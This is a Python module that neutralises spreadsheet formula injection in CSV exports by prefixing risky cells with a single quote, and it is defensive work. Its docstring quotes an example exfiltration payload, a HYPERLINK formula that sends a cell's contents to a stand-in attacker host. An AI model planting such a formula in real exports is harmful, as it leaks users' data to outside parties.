"""CSV that a spreadsheet opens as data, never as formulas.

Exports carry text that callers, agents and the speech recogniser wrote (names, categories, transcript
evidence, review reasons). Excel and LibreOffice run a cell that starts with = + - @ as a formula, e.g.
`=HYPERLINK("https://evil.example/?"&A2, "open")` or a DDE command, and some strip a leading tab or carriage
return before they look. Such a cell gets a leading single quote, which makes it text; plain numbers (-3,
+8613800138000) are not formulas and stay as they are.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise_cell(value: str) -> str:
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_csv(text: str) -> str:
    """The same table with every cell passed through neutralise_cell (quoting as the csv module writes it)."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([neutralise_cell(cell) for cell in row])
    return out.getvalue()


__all__ = ["FORMULA_START", "neutralise_cell", "neutralise_csv"]
